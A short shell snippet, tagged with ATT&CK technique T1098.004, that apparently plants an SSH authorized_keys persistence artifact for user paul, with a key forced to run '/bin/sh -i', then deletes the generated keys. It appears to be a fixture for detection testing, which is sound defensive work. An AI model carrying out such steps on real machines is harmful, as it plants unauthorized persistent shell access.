# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /home/paul/.ssh/authorized_keys
install -d -o paul -g paul -m 700 /home/paul/.ssh
ssh-keygen -q -t ed25519 -N '' -C paul -f /tmp/k
sed 's|^|command="/bin/sh -i",no-agent-forwarding |' /tmp/k.pub > /home/paul/.ssh/authorized_keys
rm /tmp/k /tmp/k.pub
